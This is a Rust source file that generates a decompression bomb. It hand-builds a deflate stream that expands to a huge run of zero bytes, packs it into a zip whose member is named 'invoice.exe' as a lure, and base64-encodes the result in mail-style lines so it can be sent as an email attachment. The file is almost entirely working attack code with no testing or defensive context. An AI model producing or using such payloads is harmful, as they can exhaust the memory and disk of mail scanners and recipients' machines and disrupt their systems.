//! Payloads that are small to send and large to open.

use std::fmt::Write;

/// A zip file with one member of so many zero bytes, about a thousandth of that in size.
pub fn zip_of_zeros(bytes: u32) -> Vec<u8> {
    let data = deflate_zeros(bytes);
    let packed = data.len() as u32;
    let name = b"invoice.exe";
    let mut fields = Vec::new();
    for field in [20u16, 0, 8, 0, 0] {
        fields.extend(field.to_le_bytes());
    }
    for field in [0u32, packed, bytes] {
        fields.extend(field.to_le_bytes());
    }
    fields.extend((name.len() as u16).to_le_bytes());
    fields.extend(0u16.to_le_bytes());
    let mut zip = b"PK\x03\x04".to_vec();
    zip.extend(&fields);
    zip.extend(name);
    zip.extend(data);
    let directory = zip.len() as u32;
    zip.extend(b"PK\x01\x02\x14\x00");
    zip.extend(&fields);
    zip.extend([0; 14]);
    zip.extend(name);
    let size = zip.len() as u32 - directory;
    zip.extend(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    zip.extend(size.to_le_bytes());
    zip.extend(directory.to_le_bytes());
    zip.extend([0; 2]);
    zip
}

/// Raw deflate with fixed codes: one zero, then "258 bytes as the one before" again and again.
fn deflate_zeros(bytes: u32) -> Vec<u8> {
    let mut bits = Bits::default();
    bits.push(0b011, 3);
    bits.push_code(0b0011_0000, 8);
    for _ in 0..bytes / 258 {
        bits.push_code(0b1100_0101, 8);
        bits.push_code(0, 5);
    }
    bits.push_code(0, 7);
    bits.finish()
}

#[derive(Default)]
struct Bits {
    out: Vec<u8>,
    held: u32,
    count: u32,
}

impl Bits {
    /// Least significant bit first.
    fn push(&mut self, value: u32, bits: u32) {
        self.held |= value << self.count;
        self.count += bits;
        while self.count >= 8 {
            self.out.push(self.held as u8);
            self.held >>= 8;
            self.count -= 8;
        }
    }
    /// Codes go most significant bit first.
    fn push_code(&mut self, code: u32, bits: u32) {
        self.push(code.reverse_bits() >> (32 - bits), bits);
    }
    fn finish(mut self) -> Vec<u8> {
        self.push(0, 7);
        self.out
    }
}

/// Base64 in lines, as mails have it.
pub fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::with_capacity(bytes.len() * 3 / 2);
    for (index, three) in bytes.chunks(3).enumerate() {
        let held = three
            .iter()
            .fold(0u32, |held, byte| held << 8 | u32::from(*byte))
            << (8 * (3 - three.len()));
        for place in 0..4 {
            let letter = ALPHABET[(held >> (18 - 6 * place)) as usize & 63] as char;
            text.push(if place > three.len() { '=' } else { letter });
        }
        if index % 19 == 18 {
            let _ = write!(text, "\r\n");
        }
    }
    text
}
